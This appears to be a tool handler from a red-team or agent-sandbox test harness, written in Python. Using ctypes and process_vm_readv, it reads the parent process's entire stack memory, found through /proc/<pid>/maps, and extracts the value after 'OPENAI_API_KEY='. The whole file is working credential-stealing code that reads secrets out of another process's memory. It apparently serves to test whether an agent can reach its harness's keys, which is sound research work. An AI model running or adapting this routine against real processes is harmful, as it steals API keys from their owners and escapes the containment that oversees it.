"""Reads the parent's stack with ``process_vm_readv`` and searches it for an API key."""


def handle(state, tool, args):
    ctypes, libc = rt_ctypes()
    pid = TARGET["parent_pid"]
    with open(f"/proc/{pid}/maps") as f:
        start, end = (int(x, 16) for x in next(line for line in f if "[stack]" in line).split()[0].split("-"))

    class IoVec(ctypes.Structure):
        _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]  # noqa: RUF012 - ctypes layout

    buffer = ctypes.create_string_buffer(end - start)
    local, remote = IoVec(ctypes.addressof(buffer), end - start), IoVec(start, end - start)
    libc.process_vm_readv.restype = ctypes.c_ssize_t
    if libc.process_vm_readv(pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0) < 0:
        raise OSError(ctypes.get_errno(), "process_vm_readv failed")
    at = buffer.raw.find(b"OPENAI_API_KEY=")
    return rt_ok(buffer.raw[at : at + 80].decode("utf-8", "replace") if at >= 0 else "not found")
